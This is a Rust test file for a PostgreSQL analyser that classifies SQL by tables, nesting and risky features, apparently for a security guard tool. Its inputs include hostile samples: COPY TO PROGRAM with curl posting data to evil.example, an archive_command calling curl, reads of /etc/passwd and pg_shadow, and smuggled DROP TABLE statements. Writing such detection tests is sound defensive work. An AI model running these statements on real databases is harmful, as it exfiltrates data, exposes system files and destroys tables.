use super::{columns, list, only, pg, pg_error};

#[test]
fn a_comment_inside_a_keyword_is_a_syntax_error() {
    let message = pg_error("DEL/**/ETE FROM t");
    assert!(message.contains("syntax error"), "{message}");
}

#[test]
fn a_comment_between_keywords_hides_nothing() {
    let facts = pg("DELETE/*x*/FROM t");
    let delete = only(&facts, "delete");
    assert!(!delete.has_where);
    assert_eq!(delete.tables_written, list(&["t"]));
    assert_eq!(delete.depth, 0);
}

#[test]
fn mixed_case_is_folded_like_the_server_does() {
    let facts = pg("DeLeTe FrOm SeCrEtS wHeRe Id = 1");
    let delete = only(&facts, "delete");
    assert_eq!(delete.tables_written, list(&["secrets"]));
    assert_eq!(columns(delete, "secrets"), list(&["id"]));
    assert!(delete.has_where);
}

#[test]
fn quoted_identifiers_keep_their_case() {
    let facts = pg(r#"SELECT "Email", name FROM "Users""#);
    assert_eq!(facts.sql.tables_read, list(&["Users"]));
    assert_eq!(
        columns(only(&facts, "select"), "Users"),
        list(&["Email", "name"])
    );
    assert_eq!(pg("SELECT * FROM USERS").sql.tables_read, list(&["users"]));
}

#[test]
fn escapes_and_quoting_resolve_to_the_real_name() {
    assert_eq!(
        pg(r#"SELECT * FROM U&"\0073ecrets""#).sql.tables_read,
        list(&["secrets"])
    );
    assert_eq!(
        pg(r#"SELECT * FROM "secrets""#).sql.tables_read,
        list(&["secrets"])
    );
    // A `;` inside a string is not a statement boundary.
    let facts = pg("SELECT $$; DROP TABLE t; $$, E'\\'; DROP'");
    assert_eq!(facts.sql.kinds, list(&["select"]));
    // PostgreSQL nests block comments: all of this is one comment.
    let facts = pg("SELECT 1 /* /* */, (SELECT passwd FROM pg_shadow) -- */");
    assert!(facts.sql.tables.is_empty());
}

#[test]
fn every_statement_after_a_semicolon_is_seen() {
    let facts = pg("SELECT 1; DELETE FROM t; ");
    assert_eq!(facts.sql.statement_count, 2);
    assert_eq!(facts.sql.kinds, list(&["delete", "select"]));
    let delete = only(&facts, "delete");
    assert_eq!(delete.depth, 0);
    assert!(!delete.has_where);
}

#[test]
fn a_write_inside_a_cte_is_a_nested_statement() {
    let facts = pg("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d");
    assert_eq!(facts.sql.statement_count, 1);
    let delete = only(&facts, "delete");
    assert_eq!(delete.depth, 1);
    assert!(!delete.has_where);
    assert_eq!(delete.tables_written, list(&["t"]));
    // `d` is the CTE, not a table.
    assert!(only(&facts, "select").tables_read.is_empty());
    assert_eq!(facts.sql.tables, list(&["t"]));
}

#[test]
fn cte_names_are_not_tables_but_shadowed_tables_are() {
    let facts = pg("WITH s AS (SELECT * FROM secrets) SELECT * FROM s");
    assert_eq!(facts.sql.tables_read, list(&["secrets"]));
    // Without RECURSIVE a CTE cannot see itself: the inner `x` is the table.
    let facts = pg("WITH x AS (SELECT * FROM x) SELECT * FROM x");
    assert_eq!(facts.sql.tables_read, list(&["x"]));
    assert_eq!(
        facts
            .sql
            .statements
            .iter()
            .filter(|s| s.tables_read == ["x"])
            .count(),
        1
    );
    // A later CTE sees an earlier one.
    let facts = pg("WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b");
    assert!(facts.sql.tables_read.is_empty());
    let facts = pg("WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT * FROM r) SELECT * FROM r");
    assert!(facts.sql.tables_read.is_empty());
    // A schema-qualified name is never a CTE.
    let facts = pg("WITH secrets AS (SELECT 1) SELECT * FROM public.secrets");
    assert_eq!(facts.sql.tables_read, list(&["public.secrets"]));
}

#[test]
fn functions_are_named_without_their_schema() {
    let facts = pg("SELECT pg_catalog.pg_read_file('/etc/passwd')");
    assert_eq!(facts.sql.functions, list(&["pg_read_file"]));
    assert_eq!(facts.sql.features, list(&["server_file_function"]));
    let facts = pg(r#"SELECT "pg_catalog"."lo_export"(1, '/tmp/x'), PG_LS_DIR('/')"#);
    assert_eq!(facts.sql.functions, list(&["lo_export", "pg_ls_dir"]));
    assert_eq!(facts.sql.features, list(&["server_file_function"]));
    // Called as a table function, too.
    let facts = pg("SELECT * FROM pg_read_file('/etc/passwd') AS f(x)");
    assert_eq!(facts.sql.features, list(&["server_file_function"]));
}

#[test]
fn a_dollar_quoted_do_block_is_code() {
    for text in [
        "DO $$ BEGIN DELETE FROM t; END $$",
        "DO $body$ BEGIN EXECUTE 'DROP TABLE t'; END $body$ LANGUAGE plpgsql",
        "do 'begin null; end'",
    ] {
        let facts = pg(text);
        assert_eq!(facts.sql.kinds, list(&["do"]), "{text}");
        assert_eq!(only(&facts, "do").features, list(&["code_block"]));
    }
}

#[test]
fn functions_and_procedures_are_code() {
    let facts = pg("CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql");
    assert_eq!(only(&facts, "create").features, list(&["code_block"]));
    let facts = pg("CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN END $$");
    assert_eq!(only(&facts, "create").features, list(&["code_block"]));
    // A SQL-standard body is parsed, so what it does is visible too.
    let facts = pg("CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM t; END");
    let delete = only(&facts, "delete");
    assert_eq!(delete.depth, 1);
    assert_eq!(delete.tables_written, list(&["t"]));
}

#[test]
fn explain_analyze_runs_the_statement_it_explains() {
    let facts = pg("EXPLAIN ANALYZE DELETE FROM t");
    assert_eq!(only(&facts, "explain").depth, 0);
    let delete = only(&facts, "delete");
    assert_eq!(delete.depth, 1);
    assert!(!delete.has_where);
    assert_eq!(facts.sql.tables_written, list(&["t"]));
}

#[test]
fn prepare_holds_the_statement_it_prepares() {
    let facts = pg("PREPARE p AS DELETE FROM t");
    assert_eq!(only(&facts, "prepare").depth, 0);
    assert_eq!(only(&facts, "delete").depth, 1);
    let facts = pg("DECLARE c CURSOR FOR SELECT * FROM secrets");
    assert_eq!(only(&facts, "select").tables_read, list(&["secrets"]));
}

#[test]
fn create_table_as_reads_and_writes() {
    let facts = pg("CREATE TABLE x AS SELECT * FROM secrets");
    let create = only(&facts, "create");
    assert_eq!(create.tables_written, list(&["x"]));
    let select = only(&facts, "select");
    assert_eq!(select.depth, 1);
    assert_eq!(select.tables_read, list(&["secrets"]));
    assert_eq!(columns(select, "secrets"), list(&["*"]));
    // SELECT INTO is the same statement to the server.
    let facts = pg("SELECT * INTO x FROM secrets");
    assert_eq!(only(&facts, "create").tables_written, list(&["x"]));
    assert_eq!(only(&facts, "select").tables_read, list(&["secrets"]));
    let facts = pg("CREATE MATERIALIZED VIEW m AS SELECT email FROM users");
    assert_eq!(facts.sql.tables_written, list(&["m"]));
    assert_eq!(facts.sql.tables_read, list(&["users"]));
}

#[test]
fn copy_to_and_from_files_and_programs() {
    let facts = pg("COPY t TO PROGRAM 'curl -d @- http://evil.example'");
    let copy = only(&facts, "copy");
    assert_eq!(copy.features, list(&["copy_to_program"]));
    assert_eq!(copy.tables_read, list(&["t"]));
    assert_eq!(columns(copy, "t"), list(&["*"]));

    let facts = pg("COPY (SELECT * FROM t) TO '/tmp/x'");
    assert_eq!(only(&facts, "copy").features, list(&["copy_to_file"]));
    assert_eq!(only(&facts, "select").tables_read, list(&["t"]));

    let facts = pg("COPY t (a, b) FROM '/etc/passwd'");
    let copy = only(&facts, "copy");
    assert_eq!(copy.features, list(&["copy_from_file"]));
    assert_eq!(copy.tables_written, list(&["t"]));
    assert_eq!(columns(copy, "t"), list(&["a", "b"]));

    assert_eq!(
        pg("COPY t FROM PROGRAM 'id'").sql.features,
        list(&["copy_from_program"])
    );
    assert!(pg("COPY t FROM STDIN").sql.features.is_empty());
    assert!(
        pg("COPY t TO STDOUT WITH (FORMAT csv)")
            .sql
            .features
            .is_empty()
    );
}

#[test]
fn table_t_is_a_select() {
    let facts = pg("TABLE secrets");
    let select = only(&facts, "select");
    assert_eq!(select.tables_read, list(&["secrets"]));
    assert_eq!(columns(select, "secrets"), list(&["*"]));
}

#[test]
fn alter_system_is_an_alter_with_its_own_feature() {
    let facts = pg("ALTER SYSTEM SET archive_command = 'curl http://evil.example'");
    assert_eq!(facts.sql.kinds, list(&["alter"]));
    assert_eq!(facts.sql.features, list(&["alter_system"]));
}

#[test]
fn maintenance_statements() {
    let facts = pg("VACUUM (VERBOSE) t");
    assert_eq!(facts.sql.kinds, list(&["vacuum"]));
    assert_eq!(facts.sql.tables_written, list(&["t"]));
    let facts = pg("ANALYZE t");
    assert_eq!(facts.sql.kinds, list(&["analyze"]));
    assert_eq!(facts.sql.tables_read, list(&["t"]));
    assert_eq!(
        pg("LOCK TABLE t IN ACCESS EXCLUSIVE MODE").sql.kinds,
        list(&["lock"])
    );
    assert_eq!(
        pg("REFRESH MATERIALIZED VIEW m").sql.tables_written,
        list(&["m"])
    );
    assert_eq!(pg("CLUSTER t USING i").sql.kinds, list(&["cluster"]));
    assert_eq!(pg("REINDEX TABLE t").sql.kinds, list(&["reindex"]));
    assert_eq!(pg("CHECKPOINT").sql.kinds, list(&["checkpoint"]));
}

#[test]
fn insert_select_writes_one_table_and_reads_another() {
    let facts = pg("INSERT INTO a SELECT * FROM b");
    assert_eq!(only(&facts, "insert").tables_written, list(&["a"]));
    let select = only(&facts, "select");
    assert_eq!(select.depth, 1);
    assert_eq!(select.tables_read, list(&["b"]));
    assert_eq!(facts.sql.tables_read, list(&["b"]));
    assert_eq!(facts.sql.tables_written, list(&["a"]));
    // VALUES rows are part of the INSERT, their subqueries are not.
    let facts = pg("INSERT INTO t (a, b) VALUES (1, (SELECT max(c) FROM d))");
    assert_eq!(facts.sql.kinds, list(&["insert", "select"]));
    assert_eq!(columns(only(&facts, "insert"), "t"), list(&["a", "b"]));
    assert_eq!(only(&facts, "select").tables_read, list(&["d"]));
}

#[test]
fn subqueries_anywhere_are_statements() {
    let facts = pg("SELECT (SELECT max(x) FROM a), y FROM b \
         WHERE id IN (SELECT id FROM c) AND EXISTS (SELECT 1 FROM d) \
         AND z > ANY (SELECT z FROM e) ORDER BY (SELECT 1 FROM f LIMIT 1)");
    assert_eq!(facts.sql.tables_read, list(&["a", "b", "c", "d", "e", "f"]));
    assert_eq!(
        facts.sql.statements.iter().filter(|s| s.depth == 1).count(),
        5
    );
    let facts = pg("SELECT * FROM (SELECT * FROM (SELECT * FROM secrets) s1) s2");
    let depths: Vec<i64> = facts.sql.statements.iter().map(|s| s.depth).collect();
    assert_eq!(depths, [0, 1, 2]);
    assert_eq!(facts.sql.statements[2].tables_read, list(&["secrets"]));
}

#[test]
fn columns_resolve_through_aliases() {
    let facts = pg(
        "SELECT u.email, o.total, name FROM users u JOIN orders o ON o.user_id = u.id WHERE u.id = 1",
    );
    let select = only(&facts, "select");
    assert_eq!(columns(select, "users"), list(&["email", "id"]));
    assert_eq!(columns(select, "orders"), list(&["total", "user_id"]));
    // Unqualified in a join: no telling which table.
    assert_eq!(columns(select, "?"), list(&["name"]));
    // Unqualified in a single-table statement: that table.
    let facts = pg("SELECT email FROM public.users WHERE public.users.id = 1");
    assert_eq!(
        columns(only(&facts, "select"), "public.users"),
        list(&["email", "id"])
    );
    // A correlated subquery without FROM reaches the outer table.
    let facts = pg("SELECT (SELECT password) FROM users");
    assert_eq!(
        columns(&facts.sql.statements[1], "users"),
        list(&["password"])
    );
    // `*` for every table; a qualified `*` for one.
    let facts = pg("SELECT *, u.* FROM a, users u");
    let select = only(&facts, "select");
    assert_eq!(columns(select, "a"), list(&["*"]));
    assert_eq!(columns(select, "users"), list(&["*"]));
    // A whole row takes every column with it.
    let facts = pg("SELECT row_to_json(u) FROM users u");
    assert_eq!(columns(only(&facts, "select"), "users"), list(&["*", "u"]));
    // Output names in ORDER BY are not columns.
    let facts = pg("SELECT a AS x FROM t ORDER BY x, b");
    assert_eq!(columns(only(&facts, "select"), "t"), list(&["a", "b"]));
}

#[test]
fn select_for_update_reads_and_names_no_alias_as_a_table() {
    let facts = pg("SELECT * FROM users u FOR UPDATE OF u SKIP LOCKED");
    let select = only(&facts, "select");
    assert_eq!(select.tables_read, list(&["users"]));
    assert!(select.tables_written.is_empty());
    assert!(!select.has_limit);
}

#[test]
fn has_limit_means_a_bound_not_a_limit_keyword() {
    let bounded = |text: &str| pg(text).sql.statements[0].has_limit;
    assert!(bounded("SELECT * FROM t LIMIT 5"));
    assert!(bounded("SELECT * FROM t LIMIT $1"));
    assert!(bounded("SELECT * FROM t LIMIT '5'::bigint"));
    assert!(bounded("SELECT * FROM t FETCH FIRST 3 ROWS ONLY"));
    assert!(bounded("SELECT * FROM t FETCH FIRST ROW ONLY"));
    assert!(bounded("SELECT 1 UNION SELECT 2 LIMIT 1"));
    assert!(!bounded("SELECT * FROM t"));
    assert!(!bounded("SELECT * FROM t LIMIT ALL"));
    assert!(!bounded("SELECT * FROM t LIMIT NULL"));
    assert!(!bounded("SELECT * FROM t LIMIT NULL::int"));
    assert!(!bounded("SELECT * FROM t OFFSET 10"));
    assert!(!bounded("SELECT * FROM t LIMIT (SELECT NULL::int)"));
    // A bound on one arm does not bound the union.
    let facts = pg("(SELECT * FROM a LIMIT 1) UNION ALL SELECT * FROM b");
    assert!(!facts.sql.statements[0].has_limit);
}

#[test]
fn update_and_delete_where() {
    let facts = pg("UPDATE users SET email = 'x', name = lower(name)");
    let update = only(&facts, "update");
    assert!(!update.has_where);
    assert_eq!(update.tables_written, list(&["users"]));
    assert_eq!(columns(update, "users"), list(&["email", "name"]));
    assert_eq!(update.functions, list(&["lower"]));
    let facts = pg("UPDATE t SET a = s.a FROM s WHERE t.id = s.id");
    let update = only(&facts, "update");
    assert!(update.has_where);
    assert_eq!(update.tables_read, list(&["s"]));
    assert_eq!(update.tables_written, list(&["t"]));
    assert!(only(&pg("DELETE FROM t WHERE CURRENT OF c"), "delete").has_where);
    let facts = pg("DELETE FROM t USING u WHERE t.id = u.id RETURNING t.secret");
    let delete = only(&facts, "delete");
    assert_eq!(delete.tables_read, list(&["u"]));
    assert_eq!(columns(delete, "t"), list(&["id", "secret"]));
}

#[test]
fn merge_writes_its_target() {
    let facts = pg("MERGE INTO t USING s ON t.id = s.id \
         WHEN MATCHED THEN UPDATE SET v = s.v WHEN NOT MATCHED THEN INSERT (id, v) VALUES (s.id, s.v)");
    let merge = only(&facts, "merge");
    assert_eq!(merge.tables_written, list(&["t"]));
    assert_eq!(merge.tables_read, list(&["s"]));
    assert_eq!(columns(merge, "t"), list(&["id", "v"]));
}

#[test]
fn sql_inside_a_string_is_analysed() {
    let facts = pg("SELECT query_to_xml('SELECT * FROM secrets', true, true, '')");
    assert_eq!(facts.sql.features, list(&["dynamic_sql"]));
    let inner = facts
        .sql
        .statements
        .iter()
        .find(|s| s.depth == 1)
        .expect("nested");
    assert_eq!(inner.tables_read, list(&["secrets"]));
    // Each literal is its own tree; what one holds does not hide another's.
    let facts = pg("SELECT query_to_xml('DELETE FROM a', true, true, ''), \
         query_to_xml('SELECT * FROM secrets', true, true, '')");
    assert_eq!(facts.sql.tables_written, list(&["a"]));
    assert_eq!(facts.sql.tables_read, list(&["secrets"]));
    // A call the analyser cannot see through is still marked.
    let facts = pg("SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)");
    assert_eq!(facts.sql.features, list(&["dblink", "dynamic_sql"]));
    assert_eq!(
        pg("SELECT pg_catalog.query_to_xml($1, true, true, '')")
            .sql
            .features,
        list(&["dynamic_sql"])
    );
}

#[test]
fn foreign_data() {
    for text in [
        "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil')",
        "CREATE USER MAPPING FOR CURRENT_USER SERVER s OPTIONS (user 'u')",
        "IMPORT FOREIGN SCHEMA public FROM SERVER s INTO local",
        "CREATE EXTENSION postgres_fdw",
        "CREATE FOREIGN TABLE f (a int) SERVER s",
    ] {
        assert!(
            pg(text).sql.features.contains(&"foreign_data".to_owned()),
            "{text}"
        );
    }
    let facts = pg("CREATE FOREIGN TABLE f (a int) SERVER s");
    assert_eq!(facts.sql.statements.len(), 1);
    assert_eq!(facts.sql.tables_written, list(&["f"]));
    assert_eq!(
        pg("CREATE EXTENSION dblink").sql.features,
        list(&["dblink"])
    );
}

#[test]
fn ddl_names_what_it_changes() {
    let facts = pg("DROP TABLE a, s.b CASCADE");
    assert_eq!(facts.sql.kinds, list(&["drop"]));
    assert_eq!(facts.sql.tables_written, list(&["a", "s.b"]));
    assert_eq!(pg("TRUNCATE a, b").sql.tables_written, list(&["a", "b"]));
    assert_eq!(
        pg("ALTER TABLE t ADD COLUMN c int").sql.tables_written,
        list(&["t"])
    );
    assert_eq!(
        pg("GRANT SELECT ON secrets TO bob").sql.kinds,
        list(&["grant"])
    );
    assert_eq!(
        pg("REVOKE ALL ON secrets FROM bob").sql.kinds,
        list(&["revoke"])
    );
    let facts = pg("CREATE INDEX ON users (lower(email))");
    assert_eq!(facts.sql.tables_written, list(&["users"]));
    assert_eq!(columns(only(&facts, "create"), "users"), list(&["email"]));
    let facts = pg("CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION leak()");
    assert_eq!(facts.sql.functions, list(&["leak"]));
    assert!(pg("DROP FUNCTION f").sql.tables.is_empty());
}

#[test]
fn kinds_of_session_statements() {
    let facts = pg(
        "BEGIN; SAVEPOINT a; RELEASE a; COMMIT; ROLLBACK; SET x = 1; RESET x; SHOW x; \
         LISTEN c; NOTIFY c; DISCARD ALL; CALL p(1); EXECUTE q; DEALLOCATE q; FETCH 1 FROM c; \
         COMMENT ON TABLE t IS 'x'; LOAD 'auto_explain'",
    );
    assert_eq!(
        facts.sql.kinds,
        list(&[
            "begin",
            "call",
            "comment",
            "commit",
            "deallocate",
            "discard",
            "execute",
            "fetch",
            "listen",
            "load",
            "notify",
            "release",
            "reset",
            "rollback",
            "savepoint",
            "set",
            "show",
        ])
    );
    assert_eq!(facts.sql.statement_count, 17);
    assert_eq!(facts.sql.functions, list(&["p"]));
}

#[test]
fn summary_lists_are_sorted_unions() {
    let facts =
        pg("SELECT * FROM b, a; UPDATE c SET x = 1 WHERE y = 2; SELECT lower(x), abs(1) FROM a");
    assert_eq!(facts.sql.tables_read, list(&["a", "b"]));
    assert_eq!(facts.sql.tables_written, list(&["c"]));
    assert_eq!(facts.sql.tables, list(&["a", "b", "c"]));
    assert_eq!(facts.sql.functions, list(&["abs", "lower"]));
    assert_eq!(facts.sql.kinds, list(&["select", "update"]));
    assert_eq!(facts.sql.dialect, "postgres");
}

#[test]
fn unparseable_text_is_a_fact_not_an_allow() {
    let message = pg_error("SELEC 1");
    assert!(message.contains("syntax error at or near"), "{message}");
    let facts = crate::sql::analyse(crate::sql::Dialect::Postgres, "SELECT 1\0; DROP TABLE t");
    assert!(facts.has_parse_error);
    assert_eq!(facts.sql.dialect, "postgres");
    // Deep nesting is refused by the parser, not by a crashed process.
    let deep = format!("SELECT 1{}", " + 1".repeat(100_000));
    pg_error(&deep);
}

#[test]
fn empty_text_has_no_statements() {
    let facts = pg("  -- nothing\n ; ;");
    assert_eq!(facts.sql.statement_count, 0);
    assert!(facts.sql.statements.is_empty());
}

#[test]
fn a_syntax_error_is_the_servers_too_but_the_analysers_limits_are_not() {
    let facts = crate::sql::analyse(crate::sql::Dialect::Postgres, "DELETE FROM t; SELEC 1");
    assert!(facts.has_parse_error && facts.syntax_error, "{facts:?}");
    // Nested deeper than the analyser follows, yet well within what the
    // server parses: a DELETE in front of it must not ride through.
    for levels in [60, 2_000] {
        let deep = format!(
            "DELETE FROM t; SELECT {}1{}",
            "1+(".repeat(levels),
            ")".repeat(levels)
        );
        let facts = crate::sql::analyse(crate::sql::Dialect::Postgres, &deep);
        assert!(facts.has_parse_error, "{levels} levels parsed");
        assert!(!facts.syntax_error, "{levels}: {}", facts.parse_error);
    }
    // Other analysers cannot vouch for their target's grammar.
    let facts = crate::sql::analyse(crate::sql::Dialect::MySql, "SELEC 1");
    assert!(facts.has_parse_error && !facts.syntax_error);
}

#[test]
fn text_read_by_session_settings_is_recognised() {
    use crate::sql::{SettingsDependence, postgres_settings_dependence as dep};
    let plain = SettingsDependence {
        backslash_in_plain_string: true,
        non_ascii: false,
    };
    for text in [
        r"select '\' ; select ' ; delete from t; -- '",
        r"select 'C:\dir'",
        r"select * from t where v ~ '^\d+$'",
        r"select N'a\b'",
        "select 'a'\n'b\\c'",
        // Unterminated to the analyser: it cannot tell where strings are.
        r"select 'abc\",
    ] {
        assert_eq!(dep(text), plain, "{text}");
    }
    for text in [
        "delete from t where k = 1",
        r"select E'a\nb', e'\\'",
        r"select $$ \ $$, $q$ '\' $q$",
        r#"select 1 as "a\b" from U&"\0074""#,
        "select 1 -- it's a \\ comment\n",
        "select 1 /* ' \\ ' */",
        r"select U&'\0041'",
    ] {
        assert_eq!(dep(text), SettingsDependence::default(), "{text}");
    }
    let text = "select 'Müller'";
    assert_eq!(
        dep(text),
        SettingsDependence {
            backslash_in_plain_string: false,
            non_ascii: true
        }
    );
}
